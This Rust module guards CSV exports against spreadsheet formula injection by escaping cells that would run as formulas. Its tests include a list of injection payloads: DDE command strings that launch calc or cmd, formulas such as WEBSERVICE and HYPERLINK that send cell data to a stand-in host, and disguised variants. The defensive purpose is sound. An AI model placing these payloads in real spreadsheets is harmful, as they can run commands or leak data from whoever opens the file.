//! CSV for whoever double-clicks it: what Excel, WPS and `LibreOffice` would make something else of is kept.
//!
//! Two ways work in all three. A text that would run as a formula gets an apostrophe in front, which is
//! shown, has no limit in length and leaves nothing to run. A number that is a name and no quantity is
//! written as `="0123"`, which is shown, found and copied as `0123`; the apostrophe would be in the way of
//! every look-up. Inside the quotes there are digits and their marks only.

use std::borrow::Cow;

use crate::record::{Cell, Kind};

/// Excel rounds longer numbers when it shows them, and from 16 digits on for good.
const LONGEST_NUMBER: usize = 11;
/// Excel takes no longer text inside a formula.
const LONGEST_QUOTED: usize = 255;

/// What a cell has to say so that it is read as `text`.
pub(super) fn guarded<'t>(text: Cow<'t, str>, cell: &Cell<'_>, kind: Kind) -> Cow<'t, str> {
    match cell {
        // These are no vendor's text. What a vendor sends instead of a number is.
        Cell::Missing | Cell::Count(_) | Cell::Flag(_) | Cell::Time(_) => text,
        _ if is_name(&text, kind) => Cow::Owned(match text.len() {
            ..=LONGEST_QUOTED => format!("=\"{text}\""),
            _ => format!("'{text}"),
        }),
        _ if would_run(&text) && !is_quantity(&text) => Cow::Owned(format!("'{text}")),
        _ => text,
    }
}

/// A file whose first bytes are `ID` is taken for one of another format (SYLK) and refused.
pub(super) fn first_heading(heading: &mut String) {
    if heading.starts_with("ID") {
        heading.replace_range(..2, "Id");
    }
}

/// Whether a text that looks like a number must keep every character: a long number, one with a leading
/// zero, a telephone number, an id that would become a date or a power of ten.
fn is_name(text: &str, kind: Kind) -> bool {
    let digits = text.bytes().filter(u8::is_ascii_digit).count();
    let marks = |allowed: &str| text.chars().all(|c| c.is_ascii_digit() || allowed.contains(c));
    let unsigned = text.trim_start_matches(['+', '-']);
    let leading_zero =
        unsigned.starts_with('0') && unsigned.as_bytes().get(1).is_some_and(u8::is_ascii_digit);
    let identifies = matches!(kind, Kind::Id | Kind::Phone);
    digits > 0
        && match text.len() == digits {
            true => digits > LONGEST_NUMBER || leading_zero,
            false if text.starts_with('+') && marks("+-() ") => digits > 4,
            false if identifies => marks("+-() /.,:eE"),
            false => {
                marks("+-.,") && !text[1..].contains(['+', '-']) && (digits > LONGEST_NUMBER || leading_zero)
            }
        }
}

/// Whether it is a plain number or a percentage, which a sign makes no formula.
fn is_quantity(text: &str) -> bool {
    let number = text.strip_prefix(['+', '-']).unwrap_or(text);
    let number = number.strip_suffix('%').unwrap_or(number);
    let (whole, fraction) = number.split_once('.').unwrap_or((number, "0"));
    let all_digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    all_digits(fraction) && all_digits(&whole.replace(',', ""))
}

/// Whether a spreadsheet would take it for a formula, also behind blanks or in the wide form of Chinese
/// keyboards.
fn would_run(text: &str) -> bool {
    let shown = text.trim_start_matches(|c: char| c.is_whitespace() || crate::text::is_hidden(c));
    text.starts_with(['\t', '\r', '\n'])
        || shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\u{2212}', '﹣', '﹢', '﹦', '﹫'])
}

#[cfg(test)]
/// Texts that one of the three programs runs, or ran once, and their disguises.
pub(super) const PAYLOADS: &[&str] = &[
    "=1+1",
    "=1+1\"",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C notepad'!'A1'",
    "=HYPERLINK(\"http://e.example/?\"&A1,\"x\")",
    "=IMPORTXML(\"http://e.example\",\"//a\")",
    "=IMPORTDATA(\"http://e.example\")",
    "=WEBSERVICE(\"http://e.example/?\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc'!A",
    "=A1",
    "=-1",
    "=+1",
    "=@A1",
    "= 1+1",
    "==1",
    "=\"\"",
    "=\"a\"&A1",
    "={1,2}",
    "=TRUE",
    "=1/0",
    "=INDIRECT(\"A1\")",
    "+1+1",
    "+A1",
    "+cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "+\"a\"",
    "+1-1",
    "++1",
    "+-1",
    "+1*2",
    "+(1)",
    "+1E5+1",
    "-1+1",
    "-1-1",
    "-A1",
    "-cmd|' /C calc'!A0",
    "-SUM(1)",
    "--1",
    "-+1",
    "-1*2",
    "-(1)",
    "-2+3+cmd|' /C calc'!A0",
    "-139-0000",
    "-",
    "+",
    "=",
    "@",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@=1+1",
    "@1",
    "@user",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tx",
    "\rx",
    " =1+1",
    "  -1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u{3000}＝1+1",
    "﹦1+1",
    "\u{2212}1+1",
];

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn written(text: &str, kind: Kind) -> String {
        guarded(text.into(), &Cell::Text(text.into()), kind).into_owned()
    }

    #[test]
    fn no_payload_can_run() {
        assert!(PAYLOADS.len() >= 60);
        for payload in PAYLOADS {
            for kind in
                [Kind::Text, Kind::Id, Kind::Phone, Kind::Count, Kind::Time, Kind::Flag, Kind::Code(&[])]
            {
                let text = written(payload, kind);
                let quoted = text.strip_prefix("=\"").and_then(|text| text.strip_suffix('"'));
                let harmless = quoted.is_some_and(|text| !text.contains(['"', '=', '@']));
                assert!(harmless || text == format!("'{payload}"), "{payload:?} is {text:?}");
            }
        }
    }

    #[test]
    fn numbers_percentages_and_telephone_numbers_are_unharmed() {
        for text in [
            "-5",
            "-12.5",
            "+7",
            "-5%",
            "+12.5%",
            "-1,234.50",
            "0",
            "0.5",
            "-0.5",
            "12345678901",
            "3月",
            "a=b",
            "a-1",
        ] {
            assert_eq!(written(text, Kind::Text), text);
        }
        for text in ["+86 139 0000 0001", "+8613900000001", "+86-139-0000-0001", "+86 (10) 8888-0000"] {
            assert_eq!(written(text, Kind::Text), format!("=\"{text}\""));
        }
        assert_eq!(guarded("-5".into(), &Cell::Count(-5), Kind::Count), "-5");
    }

    #[test]
    fn a_number_that_is_a_name_stays_text() {
        for text in ["123456789012", "12345678901234567890", "007", "-123456789012", "1.234567890123"] {
            assert_eq!(written(text, Kind::Text), format!("=\"{text}\""));
        }
        for text in ["1E5", "2026-11", "400-800-1234", "10,11", "1/2", "-1"] {
            assert_eq!(written(text, Kind::Id), format!("=\"{text}\""));
        }
        assert_eq!(written("7078103", Kind::Id), "7078103");
        assert_eq!(written(&"1".repeat(300), Kind::Id), format!("'{}", "1".repeat(300)));
    }

    #[test]
    fn no_file_begins_like_sylk() {
        for (heading, safe) in [("ID", "Id"), ("ID号", "Id号"), ("id", "id"), ("SKU", "SKU")] {
            let mut text = heading.to_owned();
            first_heading(&mut text);
            assert_eq!(text, safe);
        }
    }

    proptest! {
        #[test]
        fn whatever_begins_a_formula_is_a_number_or_guarded(text in "[=+@\\-＝＋－＠ \t\r]{1,3}\\PC{0,12}") {
            let written = written(&text, Kind::Text);
            let quoted = written.starts_with("=\"+") || written.starts_with("=\"-");
            prop_assert!(written.starts_with('\'') || quoted || is_quantity(&text) || !would_run(&text), "{written:?}");
        }
    }
}
